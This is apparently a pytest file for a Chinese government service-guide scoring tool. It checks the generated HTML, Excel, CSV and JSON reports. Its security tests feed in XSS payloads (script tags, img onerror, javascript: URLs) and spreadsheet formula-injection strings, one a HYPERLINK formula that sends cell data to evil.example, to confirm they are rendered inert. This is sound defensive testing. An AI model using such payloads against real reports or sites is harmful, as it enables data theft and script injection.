"""Campaign reports written from the report model (fixtures/report_model.json):
the Excel workbook and the CSV read back, the HTML parsed back, and text from
crawled pages that tries to run (a script, a formula) shown as text only."""
import copy
import csv
import html
import io
import json
import zipfile
from pathlib import Path

import lxml.html
import openpyxl
import pytest

from guidecheck.reports import write_reports
from guidecheck.reports.excel import sheet_names
from guidecheck.reports.html import render_html
from guidecheck.reports.tables import inert, ranking, safe_href, safe_src

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "report_model.json"
FINDING_HEADS = ["事项", "规则", "规则名称", "条款", "要素", "材料", "状态", "扣分", "问题", "证据", "整改建议",
                 "指标", "指南网址"]

SCRIPT = "<script>window.__pwned=1;alert(1)</script>"
IMG = "\"><img src=x onerror=\"window.__pwned=2;alert(2)\">"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
            "＝1+1"]


def fixture_model() -> dict:
    return json.loads(FIXTURE.read_text(encoding="utf-8"))


def hostile_model() -> dict:
    """The fixture plus findings whose page text tries to run as script or formula."""
    model = fixture_model()
    base = next(f for f in model["findings"] if f["department"] == "福建省卫生健康委员会")
    hostile = copy.deepcopy(base)
    hostile.update(key="wsjkw/x/E003/fee", item_name=f"护士执业注册{SCRIPT}", evidence=f"详见{IMG}{SCRIPT}",
                   message=f"“收费标准”只写了“{SCRIPT}”", url="javascript:window.__pwned=3",
                   link={"url": "javascript:alert(4)", "status": "dead", "reason": IMG, "http_status": 404},
                   screenshot="javascript:alert(5)", fix="请填写真实信息" + IMG)
    model["findings"].append(hostile)
    for i, payload in enumerate(FORMULAS):
        f = copy.deepcopy(base)
        f.update(key=f"formula-{i}", item_name=payload, evidence=payload, message=payload, fix=payload)
        model["findings"].append(f)
    return model


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    out = tmp_path_factory.mktemp("reports")
    return write_reports(fixture_model(), out)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    out = tmp_path_factory.mktemp("hostile")
    return write_reports(hostile_model(), out)


def test_every_format_is_written(written):
    assert set(written) == {"html", "xlsx", "csv", "json"}
    assert {p.name for p in written.values()} == {"report.html", "report.xlsx", "findings.csv", "report.json"}
    assert all(p.exists() and p.stat().st_size > 0 for p in written.values())


def test_only_the_formats_asked_for(tmp_path):
    paths = write_reports(fixture_model(), tmp_path / "new" / "dir", formats=("csv",))
    assert list(paths) == ["csv"]
    assert sorted(p.name for p in (tmp_path / "new" / "dir").iterdir()) == ["findings.csv"]
    with pytest.raises(ValueError, match="pdf"):
        write_reports(fixture_model(), tmp_path, formats=("html", "pdf"))


def test_json_is_the_model(written):
    assert json.loads(written["json"].read_text(encoding="utf-8")) == fixture_model()


# --- Excel -------------------------------------------------------------------------------------

def test_excel_summary_sheet(written):
    model = fixture_model()
    wb = openpyxl.load_workbook(written["xlsx"])
    assert wb.sheetnames == ["汇总", *(d["name"] for d in model["departments"])]
    ws = wb["汇总"]
    heads = [c.value for c in ws[2]]
    assert heads[:4] == ["排名", "部门", "层级", "抽查指南数"]
    assert heads[4:9] == ["办事服务信息发布（2分）", "自建系统规范对接（1分）", "办事指南准确度（6分）", "单项否决",
                          "开设规范（1分）"]
    assert heads[9:] == ["总分", "满分", "是否单项否决", "否决原因", "扣分问题数", "待复核数"]
    assert ws.freeze_panes == "C3" and ws.auto_filter.ref == "A2:O6"
    rows = {r[1]: r for r in ws.iter_rows(min_row=3, values_only=True)}
    assert list(rows) == ["福建省人力资源和社会保障厅", "福建省卫生健康委员会", "福建省市场监督管理局",
                          "福建省生态环境厅"]
    for dept in model["departments"]:
        row = rows[dept["name"]]
        scores = {ind["id"]: ind for ind in dept["indicators"]}
        assert row[3] == dept["checked"]
        assert row[4] == pytest.approx(scores["guide-publishing"]["score"])
        assert row[5] == "未评" and row[8] == "未评"
        assert row[7] == ("否决" if dept["veto"] else "未否决")  # the veto indicator's verdict
        assert row[6] == pytest.approx(scores["guide-accuracy"]["score"])
        assert row[9] == pytest.approx(dept["total_score"]) and row[10] == pytest.approx(dept["total_points"])
        assert row[11] == ("是" if dept["veto"] else "否")
    assert rows["福建省生态环境厅"][0] == "—" and rows["福建省生态环境厅"][12].startswith("5 份指南各缺失")
    assert [rows[n][0] for n in list(rows)[:3]] == [1, 2, 3]
    assert rows["福建省市场监督管理局"][13:] == (7, 1)  # findings that took points off; one needs review
    assert ws["E3"].number_format == "0.00" and ws["E3"].data_type == "n"


def test_excel_detail_sheet_per_department(written):
    model = fixture_model()
    wb = openpyxl.load_workbook(written["xlsx"])
    for dept in model["departments"]:
        ws = wb[dept["name"]]
        assert dept["name"] in ws["A1"].value and "扣分明细" in ws["A1"].value
        assert [c.value for c in ws[2]] == FINDING_HEADS
        assert ws.freeze_panes == "B3" and ws.auto_filter.ref.startswith("A2:M")
        mine = [f for f in model["findings"] if f["department"] == dept["name"]]
        rows = list(ws.iter_rows(min_row=3, values_only=True))
        assert len(rows) == len(mine)
        for f, row in zip(mine, rows):
            record = dict(zip(FINDING_HEADS, row))
            assert record["事项"] == f["item_name"] and record["规则"] == f["rule"]
            assert record["扣分"] == (pytest.approx(f["amount"]) if f["deducts"] else None)
        assert ws.column_dimensions["I"].width > ws.column_dimensions["B"].width
    sc = {r[1]: r for r in wb["福建省市场监督管理局"].iter_rows(min_row=3, values_only=True)
          if r[0] == "食品经营许可（新办）"}
    assert sc["M101"][5] == "第5项材料" and sc["M101"][6] == "计入扣分"
    assert "服务器返回404" in sc["K001"][9] and "HTTP 404" in sc["K001"][9]
    statuses = {r[6] for ws in wb.worksheets[1:] for r in ws.iter_rows(min_row=3, values_only=True)}
    assert {"计入扣分", "确认扣分", "待复核", "已驳回", "申诉不成立（维持扣分）", "申诉成立（撤销扣分）",
            "不计分"} <= statuses


def test_excel_cells_from_pages_are_inert(hostile):
    wb = openpyxl.load_workbook(hostile["xlsx"])
    ws = wb["福建省卫生健康委员会"]
    cells = [c for row in ws.iter_rows(min_row=3) for c in row]
    for payload in FORMULAS:
        found = [c for c in cells if c.value == "'" + payload]
        assert len(found) >= 3, payload  # 事项, 问题, 整改建议 (and 证据)
        assert all(c.data_type == "s" for c in found)
    assert all(c.data_type != "f" for sheet in wb.worksheets for row in sheet.iter_rows() for c in row)
    with zipfile.ZipFile(hostile["xlsx"]) as z:  # no formula anywhere in the file itself
        assert not any("<f>" in z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
    # the real "-" and "+86…" of the fixture are inert too
    sc = [r for r in wb["福建省市场监督管理局"].iter_rows(min_row=3, values_only=True) if r[1] == "P201"][0]
    assert sc[9] == "'-"


def test_excel_sheet_names_are_valid_and_unique(tmp_path):
    model = fixture_model()
    names = ["市局[一]/二:三*四?五\\六", "福建省" + "很长的部门名称" * 6, "福建省" + "很长的部门名称" * 6 + "二",
             "汇总", "History", "'引号'", "Abc", "ABC", "\x07"]
    template = model["departments"][0]
    model["departments"] = [dict(copy.deepcopy(template), name=n) for n in names]
    model["findings"] = [dict(model["findings"][0], department=n) for n in names]
    path = write_reports(model, tmp_path, formats=("xlsx",))["xlsx"]
    wb = openpyxl.load_workbook(path)
    sheets = wb.sheetnames[1:]
    assert len(sheets) == len(names)
    assert len({s.casefold() for s in wb.sheetnames}) == len(wb.sheetnames)
    for s in sheets:
        assert 0 < len(s) <= 31 and not set(s) & set("[]:*?/\\") and not s.startswith("'") and not s.endswith("'")
    assert "history" not in [s.casefold() for s in sheets] and "汇总" not in sheets
    for sheet, name in zip(sheets, names):
        assert len(list(wb[sheet].iter_rows(min_row=3))) == 1
        if name != "\x07":
            assert wb[sheet]["A1"].value.startswith(name)
    assert sheet_names(["a", "A"], ()) == ["a", "A(2)"]


def test_excel_drops_characters_a_workbook_cannot_hold(tmp_path):
    model = fixture_model()
    model["findings"][0]["evidence"] = "其他\x07相关\x1b材料\x00"
    path = write_reports(model, tmp_path, formats=("xlsx",))["xlsx"]
    row = next(openpyxl.load_workbook(path)["福建省市场监督管理局"].iter_rows(min_row=3, max_row=3, values_only=True))
    assert row[9] == "其他相关材料"


# --- CSV ---------------------------------------------------------------------------------------

def test_csv_has_a_bom_and_every_finding(written):
    raw = written["csv"].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    model = fixture_model()
    assert rows[0] == ["部门", *FINDING_HEADS, "编号"]
    assert len(rows) == len(model["findings"]) + 1
    for f, row in zip(model["findings"], rows[1:]):
        assert row[0] == f["department"] and row[-1] == f["key"]
        assert row[8] == (str(f["amount"]) if f["deducts"] else "")
    p203 = next(r for r in rows if r[2] == "P203")
    assert p203[10] == "'+86 0591-8762 345"


def test_csv_cells_from_pages_are_inert(hostile):
    rows = list(csv.reader(io.StringIO(hostile["csv"].read_bytes().decode("utf-8-sig"), newline="")))
    for payload in FORMULAS:
        row = next(r for r in rows if r[-1].startswith("formula-") and r[1] == "'" + payload)
        assert row[9] == row[10] == row[11] == "'" + payload  # 问题, 证据, 整改建议
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-", "'-"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"), ("其他材料", "其他材料"), ("a=1", "a=1"), ("", ""), (0.5, 0.5), (-1.0, -1.0), (None, None)])
def test_inert(text, expected):
    assert inert(text) == expected


# --- HTML --------------------------------------------------------------------------------------

def test_html_shows_every_department_and_finding(written):
    text = written["html"].read_text(encoding="utf-8")
    model = fixture_model()
    doc = lxml.html.fromstring(text)
    assert doc.findtext(".//title") == "2024年第三季度省直部门网上办事指南抽查 办事指南检查评分报告"
    cards = doc.cssselect("article.dept-card")
    assert [c.get("data-department") for c in cards] == [d["name"] for d in model["departments"]]
    assert len(doc.cssselect("svg.ranking rect.bar")) == len(model["departments"])
    rows = doc.cssselect("tr.finding")
    assert len(rows) == len(model["findings"])
    for f, row in zip(model["findings"], rows):
        assert row.get("data-department") == f["department"] and row.get("data-rule") == f["rule"]
        assert row.get("data-status") == f["status"]
        content = row.text_content()
        for field in ("item_name", "message", "evidence", "fix", "rule", "rule_title", "element_title"):
            assert f[field] in content, (field, f[field])
        assert all(clause in content for clause in f["clauses"])
    for word in ("未评", "确认扣分", "待复核", "已驳回", "申诉成立（撤销扣分）", "申诉不成立（维持扣分）",
                 "计入扣分", "不计分", "第5项材料", "单项否决", "服务器返回404"):
        assert word in text, word
    veto = doc.cssselect("article.dept-card.veto")
    assert len(veto) == 1 and "5 份指南各缺失 4 类及以上关键要素" in veto[0].text_content()
    assert doc.cssselect("svg.ranking g.row.veto")
    verdict = doc.cssselect('article.dept-card.veto tr[data-indicator="service-veto"] .badge')
    assert [b.text for b in verdict] == ["否决"]
    dead = doc.cssselect("tr.finding[data-rule=K001]")[0]  # a link finding's evidence is its URL: shown once
    assert not dead.cssselect(".evidence q") and dead.cssselect(".link-result a")[0].get("href").endswith(".doc")
    shot = doc.cssselect("tr.finding img")
    assert [i.get("src") for i in shot] == ["screenshots/sthjt-jgys-e010.png"]


def test_html_escapes_everything_from_pages(hostile):
    text = hostile["html"].read_text(encoding="utf-8")
    doc = lxml.html.fromstring(text)
    scripts = doc.xpath("//script")
    assert len(scripts) == 1 and "__pwned" not in scripts[0].text
    assert SCRIPT not in text and "<img src=x" not in text
    assert html.escape(SCRIPT) in text
    handlers = [(el.tag, name) for el in doc.iter() if isinstance(el.tag, str) for name in el.attrib
                if name.lower().startswith("on")]
    assert handlers == []
    assert [i.get("src") for i in doc.xpath("//img")] == ["screenshots/sthjt-jgys-e010.png"]
    hrefs = [a.get("href") for a in doc.xpath("//a[@href]")]
    assert all(h.startswith(("#", "http://", "https://", "screenshots/")) for h in hrefs), hrefs
    row = doc.cssselect('tr.finding[data-key="wsjkw/x/E003/fee"]')[0]
    content = row.text_content()
    assert SCRIPT in content and IMG in content
    assert "javascript:alert(4)" in content and "javascript:alert(5)" in content
    option = [o.get("value") for o in doc.cssselect("#filter-department option")]
    assert option[0] == ""


def test_html_own_script_is_allowed_by_its_policy(written):
    import base64
    import hashlib

    doc = lxml.html.fromstring(written["html"].read_text(encoding="utf-8"))
    policy = doc.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")[0]
    script = doc.xpath("//script")[0].text
    digest = base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode()
    assert f"script-src 'sha256-{digest}'" in policy and "default-src 'none'" in policy


def test_html_hostile_department_name(tmp_path):
    model = fixture_model()
    old = model["departments"][0]["name"]
    new = f"市局{IMG}{SCRIPT}"
    model["departments"][0]["name"] = new
    for f in model["findings"]:
        if f["department"] == old:
            f["department"] = new
    text = render_html(model)
    doc = lxml.html.fromstring(text)
    assert len(doc.xpath("//script")) == 1 and not doc.xpath("//img[@src='x']")
    assert new in [o.get("value") for o in doc.cssselect("#filter-department option")]
    titles = [t.text_content() for t in doc.cssselect("svg.ranking title")]
    assert any(t.startswith(new + "：") for t in titles)


def test_a_model_built_from_saved_pages(tmp_path):
    """The renderers read what report_model.build_report_model gives for the
    departments of fixtures/score (scored offline under fj-2020-dept)."""
    from guidecheck import schemes
    from guidecheck.offline import check_path, expand_paths, offline_codes
    from guidecheck.report_model import build_report_model
    from guidecheck.scoring import DepartmentInput, score_campaign

    scheme = schemes.load("fj-2020-dept")
    codes = offline_codes() & scheme.rule_codes
    guides = {}
    for folder in sorted(p for p in (FIXTURE.parent / "score").iterdir() if p.is_dir()):
        guides[folder.name] = [g for source, path, _ in expand_paths([str(folder)])
                               for g in check_path(source, path, codes)]
    score = score_campaign([DepartmentInput(name, found) for name, found in guides.items()], scheme, codes)
    model = build_report_model(score, guides, scheme, campaign={"id": 1, "name": "样例", "created_at": None})
    paths = write_reports(model, tmp_path)
    doc = lxml.html.fromstring(paths["html"].read_text(encoding="utf-8"))
    assert len(doc.cssselect("tr.finding")) == len(model["findings"]) > 0
    assert len(doc.cssselect("article.dept-card")) == len(guides) == 3
    assert doc.cssselect("article.dept-card.veto")  # 市生态环境局: both guides miss four key elements
    wb = openpyxl.load_workbook(paths["xlsx"])
    assert wb.sheetnames == ["汇总", *(d["name"] for d in model["departments"])]
    totals = {r[1]: r[9] for r in wb["汇总"].iter_rows(min_row=3, values_only=True)}
    assert totals == {d["name"]: d["total_score"] for d in model["departments"]}


def national_model() -> dict:
    """A national-2019 model: no points, a share per element."""
    model = fixture_model()
    model["scheme"] = {"id": "national-2019", "title": "全国政务服务办事指南准确度评估（2019）",
                       "source": "seeds/004.txt", "sha256": "0" * 64}
    for i, dept in enumerate(model["departments"]):
        dept.update(total_points=0.0, total_score=None, veto=False, veto_reason="")
        dept["indicators"] = [{"id": "element-accuracy", "title": "办事指南准确度", "clause": "逐要素统计通过率",
                               "points": 0.0, "deducted": None, "score": None, "judged": True,
                               "value": {"consult_phone": 0.75 + i / 100, "location": 0.5, "materials": 1.0}}]
    return model


def test_element_shares_table(tmp_path):
    paths = write_reports(national_model(), tmp_path, formats=("html", "xlsx"))
    doc = lxml.html.fromstring(paths["html"].read_text(encoding="utf-8"))
    shares = doc.cssselect("table.shares")
    assert len(shares) == 4
    assert "咨询电话" in shares[0].text_content() and "75.0%" in shares[0].text_content()
    assert not doc.cssselect("svg.ranking") and "本方案不计总分" in doc.text_content()
    wb = openpyxl.load_workbook(paths["xlsx"])
    assert wb.sheetnames[-1] == "逐要素通过率"
    ws = wb["逐要素通过率"]
    assert [c.value for c in ws[1]][1:] == [d["name"] for d in national_model()["departments"]]
    assert ws["A2"].value == "咨询电话" and ws["C2"].value == pytest.approx(0.76) and ws["C2"].number_format == "0.0%"
    assert wb["汇总"]["E3"].value == "见“逐要素通过率”表"


def test_a_campaign_without_findings(tmp_path):
    model = fixture_model()
    model["findings"] = []
    model["campaign"] = {"id": None, "name": "", "created_at": None}
    paths = write_reports(model, tmp_path)
    doc = lxml.html.fromstring(paths["html"].read_text(encoding="utf-8"))
    assert doc.findtext(".//title") == "办事指南检查评分报告"
    assert not doc.cssselect("tr.finding") and doc.get_element_by_id("filter-empty").get("hidden") is None
    rows = list(csv.reader(io.StringIO(paths["csv"].read_text(encoding="utf-8-sig"))))
    assert rows == [["部门", *FINDING_HEADS, "编号"]]
    assert openpyxl.load_workbook(paths["xlsx"])["福建省生态环境厅"].max_row == 2


@pytest.mark.parametrize("url, ok", [
    ("https://zwfw.fujian.gov.cn/a?b=1", True), ("HTTP://example.cn/", True), ("javascript:alert(1)", False),
    (" javascript:alert(1)", False), ("java\tscript:alert(1)", False), ("JaVaScRiPt:alert(1)", False),
    ("data:text/html,<script>alert(1)</script>", False), ("//evil.example/x", False), ("https://", False),
    ("https://a.cn/\nb", False), ("ftp://a.cn/x", False), ("/relative/path", False), (None, False), ("", False)])
def test_safe_href(url, ok):
    assert safe_href(url) == (url if ok else None)


@pytest.mark.parametrize("path, ok", [
    ("screenshots/a.png", True), ("shots/部门/截图 1.png", True), ("/tmp/a.png", True),
    ("javascript:alert(1)", False), ("data:image/png;base64,AAAA", False), ("//evil.example/a.png", False),
    ("\\\\evil\\share\\a.png", False), ("C:\\shots\\a.png", False), ("a\n.png", False), (None, False)])
def test_safe_src(path, ok):
    assert safe_src(path) == (path if ok else None)


def test_ranking_ties_and_veto():
    depts = [{"name": "甲", "total_score": 5.0}, {"name": "乙", "total_score": 7.004},
             {"name": "丙", "total_score": 7.0}, {"name": "丁", "total_score": 9.0, "veto": True},
             {"name": "戊", "total_score": None}, {"name": "己", "total_score": 4.0}]
    assert [(r, d["name"]) for r, d in ranking(depts)] == [(1, "乙"), (1, "丙"), (3, "甲"), (4, "己"), (None, "戊"),
                                                          (None, "丁")]


def _deductions_add_up(model: dict) -> int:
    """Per department and indicator: the findings' deductions sum to points − score.
    Returns how many indicator rows were checked."""
    from collections import defaultdict

    sums = defaultdict(float)
    for f in model["findings"]:
        assert abs(f["amount"] - sum(d["amount"] for d in f["deductions"])) < 1e-9
        for d in f["deductions"]:
            sums[(f["department"], d["indicator"])] += d["amount"]
    checked = 0
    for dept in model["departments"]:
        for ind in dept["indicators"]:
            if ind["judged"] and ind["score"] is not None and ind["points"]:
                assert abs(sums[(dept["name"], ind["id"])] - (ind["points"] - ind["score"])) < 1e-4, \
                    (dept["name"], ind["id"], sums[(dept["name"], ind["id"])], ind["points"], ind["score"])
                checked += 1
    return checked


def _scored_model(guides_by_dept: dict, codes: set[str]):
    from guidecheck import schemes
    from guidecheck.report_model import build_report_model
    from guidecheck.scoring import DepartmentInput, score_campaign

    scheme = schemes.load("fj-2020-dept")
    score = score_campaign([DepartmentInput(n, g) for n, g in guides_by_dept.items()], scheme, codes)
    return build_report_model(score, guides_by_dept, scheme, campaign={"id": 1, "name": "样例",
                                                                        "created_at": "2026-12-04T07:40:03+00:00"})


def test_deductions_add_up_in_the_json_report(tmp_path):
    """Saved pages scored under fj-2020-dept, written as report.json and read back:
    every department's per-finding deductions sum to each indicator's points − score."""
    from guidecheck.offline import check_path, expand_paths, offline_codes

    codes = offline_codes()
    guides = {}
    for folder in sorted(p for p in (FIXTURE.parent / "score").iterdir() if p.is_dir()):
        guides[folder.name] = [g for source, path, _ in expand_paths([str(folder)])
                               for g in check_path(source, path, codes)]
    paths = write_reports(_scored_model(guides, codes), tmp_path, formats=("json",))
    model = json.loads(paths["json"].read_text(encoding="utf-8"))
    assert _deductions_add_up(model) >= 3
    assert any(f["deducts"] for f in model["findings"])


def test_all_or_nothing_shared_and_two_indicators_named():
    """Three homepage findings under a 1-point all-or-nothing indicator (they even
    share a key: the same page, rule and element) show a third each; a finding
    that deducts under two indicators names both."""
    from guidecheck.model import Finding, GuideRecord
    from guidecheck.offline import CheckedGuide

    page = CheckedGuide(GuideRecord(source="http://site.example.cn/", url="http://site.example.cn/"),
                        [Finding(rule="H003", element=None, outcome="fail", message=f"缺少{m}",
                                 evidence="http://site.example.cn/") for m in ("ICP备案编号", "网站标识码", "找错入口")])
    guide = CheckedGuide(GuideRecord(source="g1.html", url="http://zwfw.example.cn/g1.html",
                                     elements={"name": "食品经营许可"}),
                         [Finding(rule="E001", element="location", outcome="fail", message="缺少办理地点", evidence="")])
    model = _scored_model({"市场监管局": [guide, page]}, {"E001", "H003"})
    assert _deductions_add_up(model) >= 2
    homepage = [f for f in model["findings"] if f["rule"] == "H003"]
    assert len(homepage) == 3 and sum(f["amount"] for f in homepage) == pytest.approx(1.0)
    assert all(f["amount"] == pytest.approx(1 / 3, abs=1e-3) for f in homepage)
    e001 = next(f for f in model["findings"] if f["rule"] == "E001")
    assert {d["indicator"] for d in e001["deductions"]} == {"guide-publishing", "guide-accuracy"}
    assert e001["amount"] == pytest.approx(sum(d["amount"] for d in e001["deductions"]))
    html = render_html(model)
    row = html.split('data-rule="E001"')[1].split("</tr>")[0]
    assert "办事服务信息发布" in row and "办事指南准确度" in row  # both indicators, by their Chinese titles


def test_report_words_are_chinese(tmp_path):
    """Clauses in words (code as tooltip), indicator titles not ids, scheme source
    without a path, times in Beijing time, a local-demo notice."""
    from guidecheck.model import Finding, GuideRecord
    from guidecheck.offline import CheckedGuide

    guide = CheckedGuide(GuideRecord(source="g1.html", url="http://127.0.0.1:8123/g1.html",
                                     elements={"name": "食品经营许可"}),
                         [Finding(rule="E001", element="location", outcome="fail", message="缺少办理地点", evidence="")])
    model = _scored_model({"市场监管局": [guide]}, {"E001"})
    assert model["campaign"]["created_at"] == "2026-12-04 15:40:03" and model["timezone"] == "Asia/Shanghai"
    assert "seeds/" not in json.dumps(model, ensure_ascii=False) and model["scheme"]["source"].startswith("2020年度")
    assert model["local_portal"] is True
    html = render_html(model)
    doc = lxml.html.fromstring(html)
    clause = doc.cssselect("tr.finding ul.clauses li")[0]
    assert "重点要素类别" in clause.text_content() and "001 准确度 (2)" in clause.get("title")
    assert "北京时间" in html and "本机上的演示门户" in html
    for ind in doc.cssselect("table.indicators tr[data-indicator] td:first-child"):
        assert ind.text_content().strip() and not any(c.isascii() and c.isalpha() for c in ind.text_content())


def test_http_code_is_not_said_twice():
    from guidecheck.reports.tables import http_note, link_text

    link = {"url": "http://x.cn/a.xlsx", "status": "review", "reason": "请求过于频繁被限流（HTTP 429）", "http_status": 429}
    assert http_note(link) == "" and link_text(link).count("HTTP 429") == 1
    assert http_note({**link, "reason": "服务器错误", "http_status": 500}) == "HTTP 500"
